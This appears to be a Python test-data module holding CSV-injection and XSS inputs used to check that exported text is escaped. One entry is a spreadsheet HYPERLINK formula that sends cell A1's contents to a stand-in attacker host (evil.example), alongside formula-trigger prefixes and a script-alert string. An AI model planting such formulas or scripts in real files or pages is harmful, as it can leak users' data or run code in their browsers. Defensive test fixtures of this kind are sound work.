"""Test data shared by the improvement and storyboard tests (not tests themselves)."""

from __future__ import annotations

#: Text that a spreadsheet would run as a formula (OWASP "CSV injection").
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+44 131 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\u22121",
    "\uff1d1+1",
]
#: Text that a browser would run as a script.
SCRIPT = "<script>alert('x')</script> & \"quotes\""
